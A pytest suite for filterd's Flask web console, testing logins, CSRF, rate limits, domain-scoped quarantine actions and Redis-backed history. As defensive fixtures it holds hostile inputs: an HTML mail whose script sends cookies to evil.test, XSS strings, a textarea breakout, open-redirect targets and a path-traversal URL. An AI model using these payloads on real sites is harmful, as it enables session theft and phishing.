"""The web console (filterd.web) through Flask's test client: login, sessions, CSRF, the rate
limit, domain admins, the quarantine actions on the real release and training code, the history
from a real Redis, the scan page, and a hostile HTML mail that must arrive on the page inert."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner
from flask.testing import FlaskClient

from filterd.cli.filterctl import cli
from filterd.config import Config, load_config
from filterd.quarantine.store import QuarantineStore
from filterd.web.app import CONTENT_SECURITY_POLICY, create_app
from filterd.web.passwords import User, hash_password, read_users, verify_password, write_user
from tests.harness import avsamples
from tests.harness.net import free_port, wait_for
from tests.harness.redis import RedisServer
from tests.harness.smtpsink import SmtpSink

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "correct horse battery"
SYMBOLS = [{"name": "BAYES_SPAM", "score": 5.5, "reason": "spamicity 0.99"}]


@dataclass
class Site:
    config: Config
    config_path: Path
    store: QuarantineStore
    tmp: Path

    def client(self, address: str = "127.0.0.1") -> FlaskClient:
        app = create_app(self.config, b"k" * 64)
        app.testing = True
        client = app.test_client()
        client.environ_base["REMOTE_ADDR"] = address
        return client

    def put(self, rcpts: list[str], raw: bytes | None = None, **meta: Any) -> str:
        meta = {
            "mail_from": "promo@shop.test",
            "rcpts": rcpts,
            "reason": "score 9.1 >= 8.0",
            "score": 9.1,
            "symbols": SYMBOLS,
            **meta,
        }
        return self.store.put(
            raw or avsamples.clean(subject=f"for {rcpts[0]}"), [("X-Spam-Status", "Yes")], meta
        )


def make_site(tmp_path: Path, extra: str = "", release_via: str = "127.0.0.1:1") -> Site:
    config_path = tmp_path / "filterd.toml"
    config_path.write_text(
        f'[quarantine]\ndirectory = "{tmp_path / "q"}"\nrelease_via = "{release_via}"\n'
        f'[web]\npassword_file = "{tmp_path / "passwd"}"\nsession_secret_file = "{tmp_path / "secret"}"\n'
        f"{extra}"
    )
    write_user(tmp_path / "passwd", User("admin", hash_password(PASSWORD)))
    write_user(tmp_path / "passwd", User("dom", hash_password(PASSWORD), ("example.test",)))
    config = load_config(config_path)
    return Site(config, config_path, QuarantineStore(config.quarantine), tmp_path)


@pytest.fixture
def sink() -> Iterator[SmtpSink]:
    with SmtpSink() as s:
        yield s


@pytest.fixture
def site(tmp_path: Path, sink: SmtpSink) -> Site:
    return make_site(tmp_path, release_via=sink.address)


def token(client: FlaskClient, path: str = "/login") -> str:
    page = client.get(path)
    found = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert found, page.text
    return found.group(1)


def log_in(client: FlaskClient, user: str = "admin", password: str = PASSWORD) -> Any:
    return client.post("/login", data={"username": user, "password": password, "csrf_token": token(client)})


def act(client: FlaskClient, action: str, *ids: str, **extra: str) -> Any:
    data: dict[str, Any] = {"action": action, "id": list(ids), "csrf_token": token(client, "/quarantine")}
    data.update(extra)
    return client.post("/quarantine/act", data=data)


def soup(response: Any) -> BeautifulSoup:
    return BeautifulSoup(response.text, "html.parser")


# -- login, sessions, CSRF, rate limit ---------------------------------------------------------


def test_every_page_without_a_session_redirects_to_the_login(site: Site) -> None:
    client = site.client()
    qid = site.put(["bob@example.test"])
    for path in ("/", "/quarantine", f"/quarantine/{qid}", "/history", "/graphs", "/graphs/day.png", "/scan"):
        response = client.get(path)
        assert response.status_code == 302, path
        assert response.headers["Location"].startswith("/login"), path
    assert client.get("/login").status_code == 200
    assert client.get("/static/console.css").status_code == 200


def test_login_with_the_right_password_and_back_to_the_page_asked_for(site: Site) -> None:
    client = site.client()
    asked = client.get("/history?q=x")
    assert asked.headers["Location"] == "/login?next=/history?q%3Dx"
    wrong = client.post(
        "/login",
        data={"username": "admin", "password": "nope", "csrf_token": token(client), "next": "/history"},
    )
    assert wrong.status_code == 401 and "Wrong user name or password" in wrong.text
    unknown = log_in(client, user="mallory")
    assert unknown.status_code == 401
    assert client.get("/quarantine").status_code == 302  # still not logged in
    good = client.post(
        "/login",
        data={"username": "admin", "password": PASSWORD, "csrf_token": token(client), "next": "/history?q=x"},
    )
    assert good.status_code == 303 and good.headers["Location"] == "/history?q=x"
    assert client.get("/quarantine").status_code == 200
    # never an open redirect after the login
    for target in ("//evil.test/x", "https://evil.test/", "javascript:alert(1)", "/\\evil.test", "/\tevil"):
        client.post("/logout", data={"csrf_token": token(client, "/quarantine")})
        r = client.post(
            "/login",
            data={"username": "admin", "password": PASSWORD, "csrf_token": token(client), "next": target},
        )
        assert r.headers["Location"] == "/", target


def test_the_session_cookie_is_httponly_samesite_strict_and_secure_behind_tls(
    site: Site, tmp_path: Path
) -> None:
    client = site.client()
    cookie = log_in(client).headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Secure" not in cookie
    (tmp_path / "tls").mkdir()
    secure = make_site(tmp_path / "tls", "secure_cookies = true\n")
    cookie = log_in(secure.client()).headers["Set-Cookie"]
    assert cookie.startswith("__Host-filterd=") and "Secure" in cookie and "HttpOnly" in cookie


def test_a_post_without_the_csrf_token_is_refused(site: Site) -> None:
    qid = site.put(["bob@example.test"])
    client = site.client()
    no_token = client.post("/login", data={"username": "admin", "password": PASSWORD})
    assert no_token.status_code == 400 and "security token" in no_token.text
    assert log_in(client).status_code == 303
    for data in (
        {"action": "delete", "confirm": "yes", "id": qid},
        {"csrf_token": "forged", "action": "delete"},
    ):
        refused = client.post("/quarantine/act", data={**data, "confirm": "yes", "id": qid})
        assert refused.status_code == 400
    assert client.post("/logout").status_code == 400
    assert site.store.get(qid)  # not deleted
    assert client.get("/quarantine").status_code == 200  # and still logged in


def test_logins_are_rate_limited_per_client_address(site: Site) -> None:
    attacker = site.client("198.51.100.7")
    for _ in range(site.config.web.login_attempts):
        assert log_in(attacker, password="guess").status_code == 401
    blocked = log_in(attacker)  # even the right password: the address is refused for now
    assert blocked.status_code == 429 and "Too many failed logins" in blocked.text
    assert int(blocked.headers["Retry-After"]) > 0
    assert attacker.get("/quarantine").status_code == 302
    other = site.client("203.0.113.9")
    assert log_in(other).status_code == 303


def test_behind_a_proxy_the_forwarded_client_address_is_rate_limited(tmp_path: Path) -> None:
    """With behind_proxy, every request comes from the proxy's address: the limit must count the
    address the proxy forwards, or one attacker would lock everyone out."""
    site = make_site(tmp_path, "behind_proxy = true\n")
    client = site.client("127.0.0.1")  # the proxy
    attacker = {"X-Forwarded-For": "198.51.100.7", "X-Forwarded-Proto": "https"}
    for _ in range(site.config.web.login_attempts):
        page = client.post(
            "/login",
            data={"username": "admin", "password": "guess", "csrf_token": token(client)},
            headers=attacker,
        )
        assert page.status_code == 401
    blocked = client.post(
        "/login",
        data={"username": "admin", "password": PASSWORD, "csrf_token": token(client)},
        headers=attacker,
    )
    assert blocked.status_code == 429 and "198.51.100.7" in blocked.text
    other = client.post(
        "/login",
        data={"username": "admin", "password": PASSWORD, "csrf_token": token(client)},
        headers={"X-Forwarded-For": "203.0.113.9"},
    )
    assert other.status_code == 303


def test_a_session_ends_after_its_lifetime(tmp_path: Path) -> None:
    site = make_site(tmp_path, "session_lifetime = 1.0\n")
    client = site.client()
    assert log_in(client).status_code == 303
    assert client.get("/quarantine").status_code == 200
    time.sleep(1.2)
    assert client.get("/quarantine").status_code == 302


def test_an_unreadable_password_file_is_an_error_page_not_a_traceback(site: Site) -> None:
    client = site.client()
    csrf = token(client)
    (site.tmp / "passwd").write_text("admin:not-a-hash\n")
    page = client.post("/login", data={"username": "admin", "password": PASSWORD, "csrf_token": csrf})
    assert page.status_code == 500 and "Password file unreadable" in page.text and "line 1" in page.text
    (site.tmp / "passwd").unlink()
    assert "filterctl web passwd USER" in client.get("/login").text


def test_a_new_password_or_a_removed_user_ends_the_session(site: Site) -> None:
    client = site.client()
    assert log_in(client).status_code == 303
    assert client.get("/quarantine").status_code == 200
    write_user(site.tmp / "passwd", User("admin", hash_password("another password")))
    assert client.get("/quarantine").status_code == 302
    assert log_in(client, password="another password").status_code == 303
    write_user(site.tmp / "passwd", None, remove="admin")
    assert client.get("/quarantine").status_code == 302


def test_every_page_has_a_strict_content_security_policy(site: Site) -> None:
    qid = site.put(["bob@example.test"])
    client = site.client()
    pages = [client.get("/login")]
    log_in(client)
    pages += [
        client.get(p)
        for p in ("/quarantine", f"/quarantine/{qid}", "/history", "/graphs", "/scan", "/quarantine/x")
    ]
    for response in pages:
        assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
        assert "script-src" not in CONTENT_SECURITY_POLICY and "default-src 'none'" in CONTENT_SECURITY_POLICY
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Cache-Control"] == "no-store"


# -- the quarantine --------------------------------------------------------------------------


def test_list_search_and_filters(site: Site) -> None:
    virus = site.put(["alice@example.test"], avsamples.eicar_zip(), reason="virus Eicar found by clamd")
    spam = site.put(["bob@other.test"], mail_from="bulk@mailer.test")
    client = site.client()
    log_in(client)

    def listed(query: str) -> list[str]:
        page = soup(client.get(f"/quarantine?{query}"))
        return [a["href"].rsplit("/", 1)[1] for a in page.select("tbody a")]

    assert listed("") == [spam, virus]  # newest first
    assert listed("q=bulk@mailer") == [spam]
    assert listed("q=ALICE@") == [virus]
    assert listed("q=eicar+zip") == [virus]  # the subject
    assert listed("reason=virus") == [virus]
    today = time.strftime("%Y-%m-%d", time.gmtime())
    assert listed(f"since={today}&until={today}") == [spam, virus]
    assert listed("until=2000-01-01") == []
    bad = client.get("/quarantine?since=yesterday")
    assert "is not a date" in bad.text and len(soup(bad).select("tbody tr")) == 2
    site.store.replace_meta(spam, {**site.store.get(spam).meta, "released": {"time": "now", "to": []}})
    assert listed("status=released") == [spam]
    assert listed("status=held") == [virus]
    page = soup(client.get("/quarantine"))
    statuses = [td.get_text(strip=True) for td in page.select("tbody tr td:last-child")]
    assert statuses == ["released", "held"]  # said in words, not only in colour
    assert page.select("input[name=id][checked]") == []
    everything = soup(client.get(page.find("a", string="Select all on this page")["href"]))
    assert [i["value"] for i in everything.select("input[name=id][checked]")] == [spam, virus]


def test_show_a_message_with_headers_symbols_and_text(site: Site) -> None:
    qid = site.put(["bob@example.test"], queue_id="4XyZ1", client_addr="192.0.2.66", helo="evil.test")
    client = site.client()
    log_in(client)
    page = client.get(f"/quarantine/{qid}")
    assert page.status_code == 200
    text = soup(page).get_text()
    for expected in (
        "4XyZ1",
        "192.0.2.66",
        "evil.test",
        "BAYES_SPAM",
        "5.50",
        "spamicity 0.99",
        "X-Spam-Status: Yes",
    ):
        assert expected in text, expected
    assert "Subject: for bob@example.test" in text
    assert client.get("/quarantine/20240101-000000-abcdef0123").status_code == 404
    assert client.get("/quarantine/..%2F..%2Fetc%2Fpasswd").status_code == 404


def test_release_delivers_through_smtp_exactly_once_and_in_bulk(site: Site, sink: SmtpSink) -> None:
    one = site.put(["bob@example.test"])
    two = site.put(["carol@example.test"])
    client = site.client()
    log_in(client)
    result = act(client, "release", one, two)
    assert result.status_code == 200
    rows = [[td.get_text(strip=True) for td in tr.select("td")] for tr in soup(result).select("tbody tr")]
    assert [r[:2] for r in rows] == [[one, "done"], [two, "done"]]
    assert "released to bob@example.test via 127.0.0.1:" in rows[0][2]
    sink.wait_for(2)
    assert sorted(m.rcpts for m in sink.messages) == [("bob@example.test",), ("carol@example.test",)]
    assert {m.data for m in sink.messages} == {
        avsamples.clean(subject="for bob@example.test"),
        avsamples.clean(subject="for carol@example.test"),
    }
    again = act(client, "release", one)
    assert "FAILED" in again.text and "already released" in again.text
    time.sleep(0.3)
    assert len(sink.messages) == 2
    assert site.store.get(one).released is not None


def test_delete_asks_for_confirmation_then_deletes(site: Site) -> None:
    keep, gone = site.put(["bob@example.test"]), site.put(["bob@example.test"])
    client = site.client()
    log_in(client)
    asked = act(client, "delete", gone)
    assert asked.status_code == 200 and "Delete 1 message?" in asked.text
    assert site.store.get(gone)
    done = act(client, "delete", gone, confirm="yes")
    assert "deleted" in done.text
    assert [e.id for e in site.store.entries()] == [keep]
    assert "no such quarantined message" in act(client, "delete", gone, confirm="yes").text


def test_train_as_spam_and_ham_runs_the_real_trainer(tmp_path: Path) -> None:
    from filterd.bayes.model import Model
    from tests.bayes_helpers import ham_message, spam_message

    model = tmp_path / "models" / "bayes.npz"
    site = make_site(tmp_path, f'[checks.bayes]\nstorage = "file"\nmodel = "{model}"\ntrain_mode = "teft"\n')
    spams = [site.put(["bob@example.test"], spam_message(i)) for i in (1, 2)]
    ham = site.put(["bob@example.test"], ham_message(1))
    client = site.client()
    log_in(client)
    result = act(client, "spam", *spams)
    assert result.text.count("done") == 2 and "2 learned as spam" in result.text, result.text
    result = act(client, "ham", ham)
    assert "1 learned as ham" in result.text
    trained = Model.load(model)
    assert (trained.nspam, trained.nham) == (2, 1)
    again = act(client, "ham", ham)  # the same code as filterctl: idempotent
    assert "1 already ham" in again.text


def test_a_domain_admin_sees_and_acts_only_within_its_domains(
    site: Site, sink: SmtpSink, redis_server: RedisServer
) -> None:
    mine = site.put(["bob@example.test"])
    foreign = site.put(["eve@other.test"])
    shared = site.put(["carol@example.test", "dave@other.test"])
    client = site.client()
    log_in(client, user="dom")
    page = soup(client.get("/quarantine"))
    assert [a["href"].rsplit("/", 1)[1] for a in page.select("tbody a")] == [shared, mine]
    assert "dave@other.test" not in page.get_text() and "eve@other.test" not in page.get_text()
    assert [i["value"] for i in page.select("input[name=id]")] == [mine]  # the shared one: no checkbox
    assert client.get(f"/quarantine/{foreign}").status_code == 404
    shown = client.get(f"/quarantine/{shared}")
    assert shown.status_code == 200 and "an administrator must" in shown.text
    result = act(client, "release", foreign, shared, mine)
    rows = [[td.get_text(strip=True) for td in tr.select("td")] for tr in soup(result).select("tbody tr")]
    assert rows[0][1:] == ["FAILED", "no such quarantined message"]
    assert rows[1][1] == "FAILED" and "outside your domains" in rows[1][2]
    assert rows[2][1] == "done"
    assert [m.rcpts for m in sink.wait_for(1)] == [("bob@example.test",)]
    assert site.store.get(foreign).released is None and site.store.get(shared).released is None
    assert "outside your domains" in act(client, "delete", shared, confirm="yes").text
    assert site.store.get(shared)
    # the history too
    (site.tmp / "h").mkdir()
    site2 = make_site(site.tmp / "h", redis_extra(redis_server, "dom-hist:"))
    push(
        redis_server,
        "dom-hist:",
        entry(qid="A1", rcpts=["bob@example.test"]),
        entry(qid="B2", rcpts=["eve@other.test"]),
    )
    c2 = site2.client()
    log_in(c2, user="dom")
    text = soup(c2.get("/history")).get_text()
    assert "A1" in text and "B2" not in text and "eve@other.test" not in text


# -- the hostile mail --------------------------------------------------------------------------

HOSTILE_HTML = b"""\
From: attacker@evil.test
To: bob@example.test
Subject: <script>alert('subject')</script> invoice
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.test/phish">
<base href="https://evil.test/">
<style>body { background: url(https://evil.test/track.png) }</style>
<script>document.location='https://evil.test/?c='+document.cookie</script>
</head><body onload="alert('onload')">
<p>Dear customer, MARKER-TEXT pay now.</p>
<img src="https://evil.test/pixel.gif" onerror="alert('onerror')">
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==">
<a href="javascript:alert('link')">click here</a>
<iframe src="https://evil.test/frame"></iframe>
<svg onload="alert('svg')"><circle r="1"/></svg>
<div style="background-image: url('https://evil.test/css.png')">styled</div>
<form action="https://evil.test/steal"><input name="password"></form>
<object data="https://evil.test/x.swf"></object>
</body></html>
"""


def test_hostile_html_mail_reaches_the_page_inert(site: Site) -> None:
    qid = site.put(
        ["bob@example.test"],
        HOSTILE_HTML.replace(b"\n", b"\r\n"),
        mail_from="<img src=x onerror=alert(1)>@evil.test",
        reason="<script>alert('reason')</script>",
        symbols=[{"name": "<b>X</b>", "score": 1.0, "reason": "<iframe src=//evil.test>"}],
    )
    client = site.client()
    log_in(client)
    for path in (f"/quarantine/{qid}", "/quarantine"):
        response = client.get(path)
        assert response.status_code == 200
        page = soup(response)
        assert page.find_all(["script", "iframe", "object", "embed", "svg", "base", "frame"]) == [], path
        assert page.find_all("meta", attrs={"http-equiv": True}) == []
        assert page.find_all("img") == []
        assert page.find_all("style") == []  # our one style sheet is a <link>, the message's never
        assert [link["href"] for link in page.find_all("link")] == ["/static/console.css"]
        for tag in page.find_all(True):
            for name, value in tag.attrs.items():
                assert not name.lower().startswith("on"), (path, tag.name, name)
                text = " ".join(value) if isinstance(value, list) else str(value)
                assert "javascript:" not in text.lower() and "evil.test" not in text, (path, tag.name, name)
            assert "style" not in tag.attrs, (path, tag.name)
        for form in page.find_all("form"):
            assert form["action"].startswith("/"), form["action"]
        assert "<script>" not in response.text and "onerror=" not in response.text.replace(
            "onerror=alert(1)&gt;", ""
        )
    text = soup(client.get(f"/quarantine/{qid}")).get_text()
    # the reviewer still reads what the message says, as text
    assert "MARKER-TEXT pay now" in text and "click here" in text
    assert "<script>alert('subject')</script> invoice" in text  # the subject, escaped, still legible
    assert "<img src=x onerror=alert(1)>@evil.test" in text


def assert_inert(response: Any) -> None:
    page = soup(response)
    assert page.find_all(["script", "iframe", "object", "img", "style", "base", "svg"]) == []
    assert page.find_all("meta", attrs={"http-equiv": True}) == []
    for tag in page.find_all(True):
        assert not any(name.lower().startswith("on") for name in tag.attrs), tag.name


def test_hostile_input_on_the_scan_and_history_pages_is_inert(
    tmp_path: Path, redis_server: RedisServer
) -> None:
    site = make_site(tmp_path, redis_extra(redis_server, "web-hostile:"))
    push(
        redis_server,
        "web-hostile:",
        entry(
            subject="<script>alert(1)</script>",
            qid="<img src=x onerror=alert(2)>",
            rcpts=["<iframe src=//evil.test>@example.test"],
            symbols=[["<svg onload=alert(3)>", 1.0]],
        ),
    )
    client = site.client()
    log_in(client)
    history = client.get("/history")
    assert_inert(history)
    assert "<script>alert(1)</script>" in soup(history).get_text()
    hostile = HOSTILE_HTML.decode() + "</textarea><script>alert('out of the textarea')</script>"
    scanned = client.post("/scan", data={"message": hostile, "csrf_token": token(client, "/scan")})
    assert scanned.status_code == 200 and soup(scanned).select_one("#result")
    assert_inert(scanned)
    # the pasted message comes back in its field as text, the closing tag included
    assert (
        "</textarea><script>alert('out of the textarea')</script>"
        in soup(scanned).find("textarea").get_text()
    )


def test_bidi_and_control_characters_are_shown_as_escapes(site: Site) -> None:
    raw = "Subject: pay \u202egpj.exe\x1b[2J\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhi\u202e\r\n".encode()
    qid = site.put(["bob@example.test"], raw)
    client = site.client()
    log_in(client)
    text = client.get(f"/quarantine/{qid}").text
    assert "\u202e" not in text and "\x1b" not in text
    assert "pay \\u202egpj.exe\\x1b[2J" in text


# -- history ------------------------------------------------------------------------------------


def redis_extra(redis: RedisServer, prefix: str) -> str:
    return f'[redis]\nurl = "{redis.url}"\nkey_prefix = "{prefix}"\n'


def entry(**fields: Any) -> dict[str, Any]:
    base = {
        "ts": time.time(),
        "qid": "4Q1",
        "action": "reject",
        "score": 12.5,
        "from": "spammer@evil.test",
        "rcpts": ["bob@example.test"],
        "subject": "cheap pills",
        "client": "192.0.2.1",
        "direction": "inbound",
        "symbols": [["BAYES_SPAM", 5.5], ["URIBL_BLOCKED", 7.0]],
    }
    return {**base, **fields}


def push(redis: RedisServer, prefix: str, *entries: dict[str, Any] | str) -> None:
    import redis as redis_py

    client = redis_py.Redis.from_url(redis.url)
    key = f"{prefix}stats:history"
    client.delete(key)
    for e in reversed(entries):  # LPUSH: the last pushed is the newest, first in the list
        client.lpush(key, e if isinstance(e, str) else json.dumps(e))
    client.close()


def test_history_lists_and_searches_the_verdicts_in_redis(tmp_path: Path, redis_server: RedisServer) -> None:
    site = make_site(tmp_path, redis_extra(redis_server, "web-hist:"))
    push(
        redis_server,
        "web-hist:",
        entry(qid="AAA111", subject="cheap pills"),
        "not json at all",
        json.dumps(["a list, not a verdict"]),
        entry(qid="BBB222", action="accept", score=-1.0, subject="lunch?", **{"from": "carol@friends.test"}),
        entry(qid=None, action="add_header", rcpts=["zed@example.test"], subject="newsletter"),
    )
    client = site.client()
    log_in(client)

    def qids(query: str = "") -> list[str]:
        rows = soup(client.get(f"/history{query}")).select("tbody tr")
        return [tr.select("td")[1].get_text(strip=True) for tr in rows]

    assert qids() == ["AAA111", "BBB222", "-"]  # newest first, the malformed elements skipped
    assert qids("?q=bbb222") == ["BBB222"]
    assert qids("?q=carol@friends") == ["BBB222"]
    assert qids("?q=zed@") == ["-"]
    assert qids("?q=PILLS") == ["AAA111"]
    assert qids("?action=accept") == ["BBB222"]
    text = soup(client.get("/history?q=AAA111")).get_text()
    assert "BAYES_SPAM(5.5)" in text and "URIBL_BLOCKED(7)" in text and "12.50" in text


def test_history_shows_what_filterd_records(tmp_path: Path, redis_server: RedisServer) -> None:
    """The writer is filterd's own (filterd.stats.StatsRecorder, as the driver calls it): the
    contract between the two is checked end to end, not only against entries made here."""
    import redis as redis_py

    from filterd.driver import SmtpContext, scan
    from filterd.pipeline import Pipeline
    from filterd.stats import StatsRecorder

    site = make_site(tmp_path, redis_extra(redis_server, "web-rec:"))
    client = redis_py.Redis.from_url(redis_server.url)
    client.delete("web-rec:stats:history")
    pipeline = Pipeline.from_config(site.config)
    try:
        raw = avsamples.clean(subject="recorded by filterd \u00e9t\u00e9")
        context = SmtpContext(
            client_addr="192.0.2.44", mail_from="sender@shop.test", rcpts=("rcpt@example.test",)
        )
        tx, verdict = scan(pipeline, raw, context)
        tx.queue_id = "4RecQ1d"
        recorder = StatsRecorder(site.config.stats, site.config.redis.key_prefix, lambda: client)
        assert recorder.record(tx, verdict)
    finally:
        pipeline.close()
        client.close()
    console = site.client()
    log_in(console)
    rows = soup(console.get("/history?q=4recq1d")).select("tbody tr")
    assert len(rows) == 1
    cells = [td.get_text(strip=True) for td in rows[0].select("td")]
    assert cells[1:3] == ["4RecQ1d", verdict.action.value]
    assert cells[4:8] == [
        "sender@shop.test",
        "rcpt@example.test",
        "recorded by filterd \u00e9t\u00e9",
        "192.0.2.44 (inbound)",
    ]
    assert all(s.name in cells[8] for s in verdict.symbols)


def test_graphs_draw_the_counters_filterd_keeps(tmp_path: Path, redis_server: RedisServer) -> None:
    """Verdicts counted by filterd's own recorder: the page's totals are those counts, and the
    picture is a PNG drawn by `filterctl stats graph`'s code; a domain admin is not shown them."""
    import redis as redis_py

    from filterd.driver import SmtpContext, scan
    from filterd.pipeline import Pipeline
    from filterd.stats import StatsRecorder

    prefix = f"web-graph-{time.time_ns()}:"
    site = make_site(tmp_path, redis_extra(redis_server, prefix))
    client = redis_py.Redis.from_url(redis_server.url)
    pipeline = Pipeline.from_config(site.config)
    try:
        recorder = StatsRecorder(site.config.stats, prefix, lambda: client)
        actions = []
        for i in range(3):
            tx, verdict = scan(
                pipeline, avsamples.clean(subject=f"n{i}"), SmtpContext(rcpts=("a@example.test",))
            )
            assert recorder.record(tx, verdict)
            actions.append(verdict.action.value)
    finally:
        pipeline.close()
        client.close()
    console = site.client()
    log_in(console)
    page = soup(console.get("/graphs?period=day"))
    table = page.select_one("table.totals")
    names = [th.get_text() for th in table.select("th")]
    totals = dict(zip(names, (int(td.get_text()) for td in table.select("td")), strict=True))
    assert totals["received"] == 3 and totals["accepted"] == actions.count("accept")
    image = page.select_one("img.graph")
    assert image["src"] == "/graphs/day.png" and "3 received" in image["alt"]
    png = console.get("/graphs/day.png")
    assert png.status_code == 200 and png.mimetype == "image/png"
    assert png.data.startswith(b"\x89PNG\r\n") and len(png.data) > 10_000
    assert console.get("/graphs/decade.png").status_code == 404
    domain_admin = site.client()
    log_in(domain_admin, user="dom")
    assert domain_admin.get("/graphs").status_code == 403
    assert domain_admin.get("/graphs/day.png").status_code == 404
    assert "/graphs" not in domain_admin.get("/quarantine").text


def test_history_without_redis_says_so(tmp_path: Path) -> None:
    site = make_site(tmp_path, f'[redis]\nurl = "redis://127.0.0.1:{free_port()}/0"\ntimeout = 0.2\n')
    client = site.client()
    log_in(client)
    page = client.get("/history")
    assert page.status_code == 200 and "No history:" in page.text and "cannot be read" in page.text
    graphs = client.get("/graphs")
    assert graphs.status_code == 200 and "No counters:" in graphs.text


# -- scan ---------------------------------------------------------------------------------------


def test_scan_a_pasted_and_an_uploaded_message_as_filterctl_scan_does(site: Site) -> None:
    raw = avsamples.clean(subject="hello there")
    sample = site.tmp / "sample.eml"
    sample.write_bytes(raw)
    cli_result = CliRunner().invoke(cli, ["--config", str(site.config_path), "scan", "--json", str(sample)])
    expected = json.loads(cli_result.output.splitlines()[0])
    client = site.client()
    log_in(client)
    pasted = client.post(
        "/scan",
        data={"message": raw.decode(), "csrf_token": token(client, "/scan")},
        content_type="multipart/form-data",
    )
    uploaded = client.post(
        "/scan",
        data={"upload": (sample.open("rb"), "sample.eml"), "csrf_token": token(client, "/scan")},
        content_type="multipart/form-data",
    )
    for response in (pasted, uploaded):
        assert response.status_code == 200
        page = soup(response)
        heading = page.select_one("#result").get_text()
        assert f"Result: {expected['action']}, score {expected['score']:.2f}" in heading
        names = [
            tr.select("td")[0].get_text()
            for tr in page.select("section tbody tr")
            if len(tr.select("td")) == 3
        ]
        assert names == [s["name"] for s in expected["symbols"]]
    empty = client.post("/scan", data={"message": " ", "csrf_token": token(client, "/scan")})
    assert empty.status_code == 400 and "Paste a message" in empty.text


# -- filterctl web ------------------------------------------------------------------------------


def test_filterctl_web_passwd_writes_and_removes_users(tmp_path: Path) -> None:
    site = make_site(tmp_path)
    run = CliRunner().invoke
    result = run(
        cli,
        [
            "--config",
            str(site.config_path),
            "web",
            "passwd",
            "ops",
            "--domain",
            "Example.ORG",
            "--password-stdin",
        ],
        input="s3cret-enough\n",
    )
    assert result.exit_code == 0 and "ops: written" in result.output, result.output
    users = read_users(tmp_path / "passwd")
    assert users["ops"].domains == ("example.org",) and verify_password("s3cret-enough", users["ops"].hash)
    assert set(users) == {"admin", "dom", "ops"}
    assert (tmp_path / "passwd").stat().st_mode & 0o777 == 0o600
    short = run(
        cli, ["--config", str(site.config_path), "web", "passwd", "x", "--password-stdin"], input="short\n"
    )
    assert short.exit_code == 2 and "at least 8" in short.output
    bad = run(
        cli, ["--config", str(site.config_path), "web", "passwd", "a:b", "--password-stdin"], input="x" * 9
    )
    assert bad.exit_code == 2
    gone = run(cli, ["--config", str(site.config_path), "web", "passwd", "ops", "--delete"])
    assert gone.exit_code == 0 and "ops" not in read_users(tmp_path / "passwd")


def test_filterctl_web_serves_on_loopback(tmp_path: Path) -> None:
    site = make_site(tmp_path)
    port = free_port()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "from filterd.cli.filterctl import main; main()",
            "--config",
            str(site.config_path),
            "web",
            "--listen",
            f"127.0.0.1:{port}",
        ],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    try:
        wait_for(lambda: _open(port), 20, "filterctl web listening")
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/login", timeout=5) as response:
            assert response.status == 200
            assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
            assert b"Log in to the filterd console" in response.read()
        secret = tmp_path / "secret"
        assert secret.stat().st_mode & 0o777 == 0o600 and len(secret.read_bytes().strip()) == 64
    finally:
        proc.terminate()
        proc.wait(10)
    secret.chmod(0o644)
    refused = CliRunner().invoke(
        cli, ["--config", str(site.config_path), "web", "--listen", f"127.0.0.1:{port}"]
    )
    assert refused.exit_code == 1 and "chmod 600" in refused.output


def _open(port: int) -> bool:
    with socket.socket() as s:
        s.settimeout(0.2)
        return s.connect_ex(("127.0.0.1", port)) == 0


def test_the_login_limiter_counts_an_attempt_before_it_is_checked() -> None:
    """Parallel guesses: each is counted as it starts, so the sixth is refused even while the
    first five are still being checked; a success takes its own count back."""
    from filterd.web.ratelimit import LoginLimiter

    now = [1000.0]
    limiter = LoginLimiter(attempts=5, window=60.0, clock=lambda: now[0])
    for _ in range(5):
        assert limiter.retry_after("a") == 0
        limiter.failed("a")
    assert limiter.retry_after("a") == 60.0
    limiter.forgive("a")
    assert limiter.retry_after("a") == 0
    limiter.failed("a")
    now[0] += 30
    assert limiter.retry_after("a") == 30.0
    now[0] += 30.5
    assert limiter.retry_after("a") == 0
    assert limiter.retry_after("b") == 0
